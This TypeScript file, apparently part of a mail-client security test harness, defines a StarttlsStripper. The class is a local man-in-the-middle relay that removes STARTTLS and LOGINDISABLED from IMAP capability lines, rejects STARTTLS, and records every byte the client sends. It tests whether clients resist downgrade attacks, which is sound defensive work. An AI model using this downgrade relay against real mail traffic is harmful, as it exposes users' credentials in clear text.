import net from 'node:net';
import type { TranscriptSink } from '../../evidence/transcript';
import { nullSink } from '../../evidence/transcript';

export interface StripperOptions {
  /** the genuine server's plain (STARTTLS) port */
  upstream: { host: string; port: number };
  /** also hide LOGINDISABLED, as a real attacker would, so an opportunistic client sends LOGIN in clear */
  stripLoginDisabled: boolean;
  actor?: string;
  transcript?: TranscriptSink;
}

/**
 * A man in the middle on the STARTTLS port: it removes STARTTLS (and optionally LOGINDISABLED) from the
 * server's capabilities, answers a client's STARTTLS itself with BAD, relays everything else, and keeps
 * every byte the client sent, so a scenario can prove no credential crossed it in the clear.
 */
export class StarttlsStripper {
  readonly actor: string;
  private server?: net.Server;
  private readonly sockets = new Set<net.Socket>();
  private readonly fromClients: Buffer[] = [];
  private readonly transcript: TranscriptSink;

  constructor(private readonly options: StripperOptions) {
    this.actor = options.actor ?? 'STARTTLS Stripper';
    this.transcript = options.transcript ?? nullSink;
  }

  async start(): Promise<number> {
    this.server = net.createServer((client) => this.relay(client));
    await new Promise<void>((resolve) => this.server!.listen(0, '127.0.0.1', resolve));
    return (this.server.address() as net.AddressInfo).port;
  }

  /** Everything the client sent through the middle, in the clear. */
  clientBytes(): Buffer {
    return Buffer.concat(this.fromClients);
  }

  async stop(): Promise<void> {
    for (const s of this.sockets) s.destroy();
    await new Promise<void>((resolve) => (this.server ? this.server.close(() => resolve()) : resolve()));
  }

  private relay(client: net.Socket): void {
    const upstream = net.connect(this.options.upstream.port, this.options.upstream.host);
    this.sockets.add(client).add(upstream);
    const drop = (): void => {
      client.destroy();
      upstream.destroy();
    };
    client.on('error', drop).on('close', drop);
    upstream.on('error', drop).on('close', drop);

    let fromServer = '';
    upstream.on('data', (chunk: Buffer) => {
      fromServer += chunk.toString('latin1');
      let nl: number;
      while ((nl = fromServer.indexOf('\r\n')) >= 0) {
        const line = fromServer.slice(0, nl);
        fromServer = fromServer.slice(nl + 2);
        const rewritten = this.rewriteCapabilities(line);
        if (rewritten !== line) this.note(`stripped capabilities: ${rewritten}`);
        client.write(Buffer.from(rewritten + '\r\n', 'latin1'));
      }
    });

    let fromClient = '';
    client.on('data', (chunk: Buffer) => {
      this.fromClients.push(chunk);
      fromClient += chunk.toString('latin1');
      let nl: number;
      while ((nl = fromClient.indexOf('\r\n')) >= 0) {
        const line = fromClient.slice(0, nl);
        fromClient = fromClient.slice(nl + 2);
        const starttls = /^(\S+)\s+STARTTLS\s*$/i.exec(line);
        if (starttls) {
          this.note('answered STARTTLS with BAD');
          client.write(`${starttls[1]} BAD STARTTLS unavailable\r\n`);
        } else {
          upstream.write(Buffer.from(line + '\r\n', 'latin1'));
        }
      }
    });
  }

  private rewriteCapabilities(line: string): string {
    if (!/CAPABILITY/i.test(line)) return line;
    let out = line.replace(/ STARTTLS\b/gi, '');
    if (this.options.stripLoginDisabled) out = out.replace(/ LOGINDISABLED\b/gi, '');
    return out;
  }

  private note(text: string): void {
    this.transcript.record({ actor: this.actor, channel: 'imap', dir: 'event', text });
  }
}
